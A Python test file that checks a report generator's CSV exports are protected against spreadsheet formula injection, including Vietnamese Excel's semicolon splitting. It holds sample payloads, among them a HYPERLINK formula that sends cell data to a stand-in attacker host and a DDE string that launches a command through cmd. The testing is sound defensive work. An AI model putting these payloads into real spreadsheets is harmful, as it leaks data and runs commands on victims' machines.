"""No cell of a published CSV starts a formula when an auditor opens it in Excel (CSV formula injection).

Every string a person or a feed can set and that may reach a CSV gets a payload: waiver reasons, channel names,
article and feed item titles, source names, links. Every CSV the build publishes is found by walking the site, so
a CSV added later is covered too.
"""
from __future__ import annotations

import csv
import io
from datetime import date, timedelta

from generator.cli.main import main
from generator.reports.report import csv_cell

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = ['=HYPERLINK("http://tan-cong.example/?"&A1;"Bấm")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1;2)",
            "\t=1+1", "\r=1+1"]

CHANNELS = """\
        - id: chuyen-trang
          name: "{0}"
          target: {{per: week, min: 1, mode: every, window: 4}}
          since: 2025-12-01
        - id: bao
          name: "{1}"
          target: {{per: month, min: 1, mode: average, window: 2}}
          since: 2025-11-01
"""


def _yaml(s: str) -> str:
    return s.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r")


def test_csv_cell_neutralises_what_owasp_lists_and_leaves_the_rest():
    for payload in PAYLOADS:
        assert csv_cell(payload) == "'" + payload
    assert csv_cell("2026-W05") == "2026-W05"
    assert csv_cell("Nghỉ Tết") == "Nghỉ Tết"
    assert csv_cell(3) == "3" and csv_cell(None) == ""
    assert csv_cell("https://example.test/a =b") == "https://example.test/a =b"


def test_csv_cell_neutralises_a_formula_after_a_separator_inside_the_cell():
    """Excel under Vietnamese regional settings splits a double-clicked CSV on ';' (whatever the quoting), so a
    formula right after a ';' (or ',') inside a cell would start a cell of its own."""
    assert csv_cell("Tin;=HYPERLINK(1)") == "Tin;'=HYPERLINK(1)"
    assert csv_cell('a;"=1+1') == 'a;"\'=1+1'
    assert csv_cell("=1;-2") == "'=1;'-2"
    assert csv_cell("Đà Lạt, -5 độ") == "Đà Lạt, -5 độ"  # a space first: Excel reads the rest as text
    assert csv_cell("https://example.test/?a=1;b=2") == "https://example.test/?a=1;b=2"


def test_no_published_csv_cell_starts_a_formula(repo, tmp_path):
    repo.write_config(
        channels=CHANNELS.format(_yaml(PAYLOADS[0]), _yaml(PAYLOADS[3])),
        waivers="\n".join(f'        - {{channel: {ch}, period: {p}, reason: "{_yaml(r)}"}}' for ch, p, r in [
            ("chuyen-trang", "2025-W50", PAYLOADS[0]), ("chuyen-trang", "2025-W51", PAYLOADS[1]),
            ("chuyen-trang", "2025-W52", PAYLOADS[4]), ("bao", "2025-11", PAYLOADS[2]),
            ("bao", "2025-12", PAYLOADS[5])]))
    for week in range(8):  # every week met, so that the build publishes
        repo.article(f"tuan-{week}", f"Tin tuần {week}", (date(2025, 12, 1) + timedelta(weeks=week)).isoformat())
    for n, payload in enumerate(PAYLOADS[:4]):  # a title with a control character is refused before any CSV
        repo.article(f"bai-{n}", _yaml(payload), f"2025-12-{2 + n:02d} 08:00", slug=f"bai-{n}")
    items = [{"id": f"=id-{n}", "title": payload, "link": payload, "published": f"2025-12-{2 + n:02d}T08:00:00+07:00",
              "summary": payload} for n, payload in enumerate(PAYLOADS)]
    items.append({"id": "tach-o", "title": "Tin;=HYPERLINK(\"http://tan-cong.example\")", "link":
                  "https://bao.example.vn/b.html", "published": "2025-12-21T08:00:00+07:00"})
    items.append({"id": "tin-that", "title": "Tin thật", "link": "https://bao.example.vn/a.html",
                  "published": "2025-12-20T08:00:00+07:00"})
    repo.feed_items("tan-cong", "bao", items, source_name=PAYLOADS[3])
    repo.raw("feeds/sources.yml", f"""\
        sources:
          - id: tan-cong
            name: "{_yaml(PAYLOADS[2])}"
            url: https://bao.example.vn/rss
            channel: bao
        """)
    out, err = io.StringIO(), io.StringIO()
    site = tmp_path / "site"
    code = main(["build", "-f", str(repo.config), "--as-of", "2026-01-20", "-d", str(site)], out=out, err=err)
    assert code == 0, out.getvalue() + err.getvalue()
    published = sorted(site.rglob("*.csv"))
    assert {p.name for p in published} >= {"bao-cao.csv", "minh-chung.csv", "bao-cao-thang.csv", "bao-cao-quy.csv"}
    assert any(p.parent.name == "2025-q4" for p in published)  # the formal reports' CSVs are walked too
    neutralised = 0
    for path in published:
        rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))
        for row in rows:
            for cell in row:
                assert not cell.startswith(DANGEROUS), f"{path.name}: {cell!r}"
                # as Excel in Vietnamese regional settings splits it
                for part in cell.split(";")[1:]:
                    assert not part.lstrip('"').startswith(DANGEROUS), f"{path.name}: {cell!r}"
                neutralised += cell.startswith("'")
    assert neutralised >= 5  # the payloads did reach the CSVs, and were neutralised there
    evidence = (site / "nhat-ky-tan-suat" / "minh-chung.csv").read_bytes().decode("utf-8-sig")
    assert "Tin;'=HYPERLINK(" in evidence
